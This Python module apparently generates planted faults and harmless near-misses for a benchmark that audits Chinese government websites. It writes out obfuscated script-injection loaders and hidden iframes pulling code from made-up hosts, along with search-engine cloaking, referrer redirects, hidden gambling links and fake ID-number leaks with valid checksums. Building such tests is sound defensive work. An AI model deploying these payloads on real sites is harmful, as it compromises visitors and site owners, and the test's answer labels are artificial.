"""Safety, wording, secrecy, personal data, forged days, outages."""

import random
from base64 import b64encode
from datetime import timedelta

from bench.stranger.model import Answer, Site
from bench.stranger.planting.kinds import QUIET, Truth, address, fault, near, no, pick, yes
from bench.stranger.rendering import DOCX, docx, plain_page, table

WRONG = (
    "考察团将先后赴香港、台湾等国家开展经贸交流。",
    "中国和台湾两国青年在活动中结下友谊。",
    "会议传达学习全国人名代表大会会议精神。",
    "代表团成员分别来自日本、韩国、台湾等国。",
)
RIGHT = (
    "考察团将先后赴香港特别行政区和台湾地区开展经贸交流。",
    "两岸青年在活动中结下友谊。",
    "会议传达学习全国人民代表大会会议精神。",
    "参展商分别来自日本、韩国等国和台湾地区。",
)


@fault("wording", None, ways=4)
def wrong_wording(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, *QUIET)
    i.body.append(WRONG[n])
    return [yes("W-V1.1 P-set_phrase P-spelling P-word", address(site, key, i), WRONG[n])]


@near("wording", None, ways=4)
def right_wording(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, *QUIET)
    i.body.append(RIGHT[n])
    return [no("W-V1.1 P-set_phrase P-spelling P-word", address(site, key, i), RIGHT[n])]


@fault("secret", None, ways=4)
def secret(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, *QUIET)
    if n == 1:
        path = f"/files/s{i.number}.docx"
        i.files.append(("附件.docx", path))
        site.extra[path] = Answer(
            docx("秘密★1年", f"{site.place}维稳工作情况", "现将有关情况报告如下。"), DOCX
        )
        return [yes("W-V1.2 S-secrecy", None, "a secret attachment")]
    i.body.insert(0, ("机密★3年", "", "内部资料　注意保存", "绝密★长期")[n])
    return [yes("W-V1.2 S-secrecy", address(site, key, i), i.body[0])]


@near("secret", None, ways=4)
def secrecy_lesson(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, *QUIET)
    i.body.insert(
        0,
        (
            "国家秘密的密级分为绝密、机密、秘密三级，各单位要依法定密、规范管理。",
            "培训班讲解了秘密载体的保管要求，组织观看保密宣传教育片。",
            "公开属性：主动公开。密级：公开。",
            "试卷启封前属于绝密级材料，考点须双人双锁保管、全程监控。",
        )[n],
    )
    return [no("W-V1.2 S-secrecy", address(site, key, i), i.body[0])]


@fault("vice", None, ways=4)
def vice(site: Site, n: int) -> list[Truth]:
    _, i = pick(site, *QUIET)
    host = f"www.{('xqpp', 'yezhan', 'bcdh', 'yule')[n]}{site.rng.randint(100, 999)}.com"
    text = (
        "成人视频在线观看 无码高清 激情影院",
        "约炮交友 同城一夜情 上门服务",
        "真人赌场 百家乐开户送彩金 体育投注网站",
        "成人电影 无码高清 在线播放",
    )[n]
    site.others[f"http://{host}/"] = plain_page(
        text,
        f"<h1>{text}</h1><p>{text}，点击进入，立即注册。</p>",
        head=f"<meta name='keywords' content='{text.replace(' ', ',')}'>",
    )
    where = f"http://{host}/"
    if n == 3:  # a domain that changed hands leads on
        where = f"http://www.{site.host.split('.')[1]}-wenhua.org.cn/"
        site.others[where] = Answer(b"", status=302, headers={"Location": f"http://{host}/"})
    i.links.append(("活动官方网站", where))
    return [
        yes("W-V1.3 S-spam S-redirect", None, "a link to " + text),
    ]


@near("vice", None, ways=4)
def sport(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, *QUIET)
    i.title = (
        "体育中心免费开放时间公布",
        "公安机关侦破一起网络赌博案",
        "福利彩票公益金使用情况公示",
        "开展“扫黄打非”专项检查",
    )[n]
    i.body.insert(
        0,
        (
            "体育中心篮球馆、羽毛球馆周末向居民免费开放，欢迎预约。",
            "办案民警提醒，参与网络赌博属于违法行为，十赌九输，切莫沾染。",
            "去年，彩票公益金主要用于助学、助残和敬老院改造，具体项目见下表。",
            "执法人员检查书店、印刷企业12家，未发现淫秽色情等非法出版物。",
        )[n],
    )
    return [no("W-V1.3 S-spam", address(site, key, i), i.title)]


def codes(host: str) -> str:
    return ",".join(str(ord(c)) for c in f"document.write('<script src=http://{host}/x.js></script>')")


@fault("inject", None, ways=4)
def injected(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, *QUIET)
    host = f"js.{('tongjii', 'cdnxx', 'wsdk', 'jsapi')[n]}{site.rng.randint(10, 99)}.cc"
    site.others[f"http://{host}/*"] = Answer(b"", "application/javascript")
    i.after = (
        f'<iframe src="http://{host}/a.html" width="1" height="1" style="display:none"></iframe>',
        f'<script>var u="\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f{host}";window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x77\\x72\\x69\\x74\\x65"]("<script src="+u+"/x.js><\\/script>")</script>',
        f"<script>eval(String.fromCharCode({codes(host)}))</script>",
        f"<script>document.write('<iframe src=\"http://{host}/a.html\" width=0 height=0 frameborder=0></iframe>')</script>",
    )[n]
    return [yes("W-V1.4 S-script S-hidden", address(site, key, i), "something injected after </html>")]


@near("inject", None, ways=4)
def counter(site: Site, n: int) -> list[Truth]:
    site.home_html += (
        '<script>var _hmt=_hmt||[];(function(){var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?1a2b3c4d5e6f";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s);})();</script>',
        '<iframe src="/count.html" style="display:none"></iframe>',
        '<script src="/js/main.js"></script>',
        '<script>(function(){var p=".|w|(function()|".split("|");document.write(\'<span class="tj">\'+p.length+"</span>")})()</script>',
    )[n]
    site.extra["/count.html"] = Answer(b"<html><body>1</body></html>")
    site.extra["/js/main.js"] = Answer(b"var a=1;", "application/javascript")
    return [no("W-V1.4 S-script S-hidden", site.home, "a counter")]


@fault("homehack", None)
def cloaked(site: Site, n: int) -> list[Truth]:
    host = f"www.{('ag', 'bet', 'kaiyun')[n]}{site.rng.randint(100, 999)}.com"
    site.others[f"http://{host}/"] = plain_page(
        "真人娱乐 在线投注平台", "<p>真人娱乐，在线投注，注册送彩金。</p>"
    )
    spam = plain_page(
        "澳门新葡京在线娱乐_真人投注官网_百家乐",
        f"<a href='http://{host}/'>澳门新葡京官网</a><p>注册即送彩金，百家乐、老虎机、时时彩。</p>",
        head="<meta name='keywords' content='澳门新葡京,真人投注,百家乐'>",
    )
    jump = Answer(b"", status=302, headers={"Location": f"http://{host}/"})
    site.flags["home_variants"] = [
        (("ua:baiduspider", spam),),
        (("referer:baidu", jump),),
        (("ua:spider", spam), ("ua:mobile", jump)),
    ][n]
    return [yes("S-cloak S-redirect S-spam W-V1.4 W-V1.3", None, "other words for search engines")]


@fault("hidden", None, ways=4)
def hidden_links(site: Site, n: int) -> list[Truth]:
    names = ("棋牌游戏平台下载", "时时彩平台注册", "六合彩资料大全", "网上真钱游戏", "外围投注网")
    links = "".join(
        f'<a href="http://www.{chr(97 + m)}x{site.rng.randint(100, 999)}.com/">{t}</a>'
        for m, t in enumerate(names)
    )
    for a in links.split('href="')[1:]:
        site.others[a.split('"')[0]] = Answer(b"<html><body>ok</body></html>")
    style = (
        'style="position:absolute;left:-2000px"',
        'style="display:none"',
        'style="height:0;overflow:hidden;font-size:0"',
        'style="text-indent:-9999px;overflow:hidden;width:1px"',
    )[n]
    key, i = pick(site, *QUIET)
    i.raw += f"<div {style}>{links}</div>"
    return [
        yes("S-hidden S-spam W-V1.3 W-V1.4", address(site, key, i), "hidden links"),
        yes("L-11 S-spam S-hidden", None, "", optional=True),
    ]


@near("hidden", None, ways=4)
def hidden_menu(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, *QUIET)
    i.raw += (
        '<div id="tip" style="display:none">您访问的链接即将离开本网站，是否继续？<a href="javascript:go()">继续访问</a></div>',
        '<div style="display:none" id="wx_pic"><img src="/images/logo.png" alt=""></div>',
        '<ul style="display:none">'
        + "".join(f'<li><a href="/{c.key}-m">{c.name}</a></li>' for c in [])
        + '<li><a href="/">首页</a></li></ul>',
        '<a href="#main" style="position:absolute;left:-9999px">跳到正文</a>',
    )[n]
    return [no("S-hidden S-spam L-11", address(site, key, i), "innocently hidden")]


@near("stuffed", None, ways=2)
def honest_title(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, *QUIET)
    i.title_tag = (f"【图解】{i.title}_{site.name}", f"【媒体聚焦】{i.title}——{site.name}")[n]
    i.head = f'<meta name="keywords" content="{site.place},政务公开,{i.title[:6]}">'
    return [no("S-spam W-V1.3 W-V1.4", address(site, key, i), i.title_tag)]


@fault("stuffed", None)
def stuffed(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, *QUIET)
    words = ("【百家乐】澳门赌场网上开户", "【代开发票】各类增值税发票代开", "【六合彩】特码资料内部公开")[n]
    i.title_tag = f"{words}_{i.title}_{site.name}"
    i.head = f'<meta name="keywords" content="{words},{site.name}">'
    return [yes("S-spam W-V1.3 W-V1.4", address(site, key, i), words)]


@fault("jump", None, ways=4)
def jumping(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, *QUIET)
    host = f"www.{('tz', 'yx', 'qp', 'cp')[n]}{site.rng.randint(1000, 9999)}.com"
    site.others[f"http://{host}/*"] = plain_page("彩票投注平台", "彩票投注 棋牌游戏")
    i.head = (
        f'<script>var r=document.referrer;if(/\\.(baidu|sogou|so|google)\\./i.test(r)){{location.href="http://{host}/?aff=3"}}</script>',
        f'<script>setTimeout(function(){{window.location.replace("http://{host}/")}},2000)</script>',
        f'<meta http-equiv="refresh" content="0;url=http://{host}/">',
        f'<script>window.location=atob("{b64encode(f"http://{host}/".encode()).decode()}")</script>',
    )[n]
    return [yes("S-redirect S-cloak S-script W-V1.4 W-V1.3", address(site, key, i), "leads visitors away")]


@near("jump", None, ways=2)
def honest_jump(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, *QUIET)
    i.head = (
        '<script>if(/mobile/i.test(navigator.userAgent)){document.documentElement.className="m"}</script>',
        "<script>if(window.top!==window.self){window.top.location=window.self.location}</script>",
    )[n]
    return [no("S-redirect S-cloak S-script W-V1.4", address(site, key, i), "leads nobody away")]


def identity(rng: random.Random, good: bool = True) -> str:
    digits = f"3601{rng.randint(1, 30):02d}{rng.randint(1950, 2000)}{rng.randint(1, 12):02d}{rng.randint(1, 28):02d}{rng.randint(100, 999)}"
    total = sum(
        int(d) * w for d, w in zip(digits, (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2), strict=True)
    )
    at = total % 11 if good else (total + 3) % 11
    return digits + "10X98765432"[at]


@fault("privacy", None, ways=4)
def privacy(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, "tz")
    r = site.rng
    rows = [["序号", "姓名", "身份证号", "手机号码"]] + [
        [str(m), site.words.person(), identity(r), f"1{r.choice('3578')}{r.randint(100000000, 999999999)}"]
        for m in range(1, 6)
    ]
    if n == 0:
        i.raw += (
            "<table>"
            + "".join("<tr>" + "".join(f"<td>{x}</td>" for x in row) + "</tr>" for row in rows)
            + "</table>"
        )
        return [yes("L-16 S-privacy", address(site, key, i), "identity numbers in a table")]
    if n == 3:
        for _, name, number, phone in rows[1:3]:
            i.body.append(f"{name}，身份证号码{number}，联系方式{phone}，拟享受临时救助。")
        return [yes("L-16 S-privacy", address(site, key, i), "identity numbers in sentences")]
    path = f"/files/p{i.number}." + ("csv", "docx")[n - 1]
    i.files.append(("公示名单" + path[-4:], path))
    site.extra[path] = (
        Answer(table(rows), "text/csv; charset=utf-8")
        if n == 1
        else Answer(docx("公示名单", *["　".join(row) for row in rows]), DOCX)
    )
    return [yes("L-16 S-privacy", path, "identity numbers in an attachment")]


@near("privacy", None)
def masked(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, "tz")
    r = site.rng
    number = identity(r)
    i.body.append(
        (
            f"公示对象：{site.words.person()}，身份证号{number[:6]}********{number[-4:]}。",
            f"咨询电话：{site.phone}，联系人：王科长。统一社会信用代码：91360100MA35ABCD1X。",
            f"项目编号：{identity(r, good=False)}，中标单位联系电话0799-6223344。",
        )[n]
    )
    return [no("L-16 S-privacy", address(site, key, i), i.body[-1])]


@fault("forged", None)
def forged(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, "bm", "tz", "bd")
    if n == 0:
        i.tagged = i.when - timedelta(days=400)
    elif n == 1 and site.skin in ("river", "sail"):
        i.addressed = i.when + timedelta(days=70)
    else:
        i.tagged = i.when + timedelta(days=45)
    return [
        yes("W-V1.5 S-backdate L-4c D-4.7", address(site, key, i), "tag or address and shown day differ"),
        yes("D-4.7", address(site, key, i), "", optional=True),
    ]


@near("forged", None)
def old_event(site: Site, n: int) -> list[Truth]:
    key, i = pick(site, "bm", "tz", "bd")
    i.body.append(
        (
            "该工程于2019年5月6日开工，2024年12月20日完工。",
            "附2023年3月8日印发的通知原文。",
            "自2018年10月1日起施行的办法同时废止。",
        )[n]
    )
    return [no("W-V1.5 S-backdate L-4c", address(site, key, i), "old days in the body")]


@fault("probes", None, ways=4)
def down(site: Site, n: int) -> list[Truth]:
    site.flags["down"] = (7, 9, 30, 8)[n]
    return [yes("W-V2", None, f"{site.flags['down']} of 140 visits")]


@near("probes", None)
def nearly_down(site: Site, n: int) -> list[Truth]:
    site.flags["down"] = (6, 3, 5)[n]
    return [no("W-V2", None, f"{site.flags['down']} of 140 visits")]
